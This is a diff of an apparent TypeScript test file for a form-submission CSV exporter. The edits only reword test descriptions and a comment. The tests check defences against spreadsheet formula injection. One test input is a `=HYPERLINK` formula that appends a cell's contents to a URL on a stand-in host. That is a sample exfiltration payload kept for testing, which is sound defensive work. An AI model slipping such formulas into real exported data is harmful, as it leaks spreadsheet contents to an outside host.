@@ -7,7 +7,7 @@ function submission(fields: readonly (readonly [string, string | readonly string
   return { ...facts, email: "", lead: "false", fields: new Map(fields) };
 }
 
-/** Reads CSV strictly as RFC 4180 writes it, all cells quoted. */
+/** Parses CSV strictly as defined in RFC 4180, with all cells quoted. */
 function parseCsv(text: string): readonly (readonly string[])[] {
   const rows: string[][] = [[]];
   const cell = /"((?:[^"]|"")*)"(,|\r\n)/gy;
@@ -39,24 +39,24 @@ describe("a cell", () => {
     "－1",
     "＠SUM(A1)",
     '=HYPERLINK("http://example.org?"&A1)',
-  ])("that a spreadsheet could run gets an apostrophe: %j", (text) => {
+  ])("that a spreadsheet could execute gets an apostrophe: %j", (text) => {
     expect(safeCell(text)).toBe(`'${text}`);
   });
 
-  it.each(["", "a=1", "1-1", "a@example.org", "'=1", "ß", " text", "(1)", "%"])("stays as it is: %j", (text) => {
+  it.each(["", "a=1", "1-1", "a@example.org", "'=1", "ß", " text", "(1)", "%"])("stays unchanged: %j", (text) => {
     expect(safeCell(text)).toBe(text);
   });
 });
 
 describe("the CSV of submissions", () => {
-  it("starts with a byte order mark and the names of all columns, those of fields made safe as well", () => {
+  it("starts with a byte order mark and the names of all columns, with safe field names", () => {
     const header = renderCsvHeader(["name", "=x", "email"]);
     expect(header).toBe(
       '\uFEFF"submissionId","createdAt","pageSlug","formId","email","lead","name","\'=x","field email"\r\n',
     );
   });
 
-  it("has a line for each, empty where a field is missing and joined where it came several times", () => {
+  it("has one line per submission, with empty cells for missing fields and joined repeated values", () => {
     const lines = renderCsvLines([submission([["b", ["1", "2"]]]), submission([["a", 'say "hi"\nthere']])], ["a", "b"]);
     expect(parseCsv(lines).map((row) => row.slice(6))).toEqual([
       ["", "1; 2"],
@@ -64,7 +64,7 @@ describe("the CSV of submissions", () => {
     ]);
   });
 
-  it("comes back as it was, but for the apostrophe, whatever people type", () => {
+  it("can be parsed back, except for the apostrophe, whatever people type", () => {
     const text = fc.oneof(
       fc.string({ unit: "binary" }),
       fc.string({
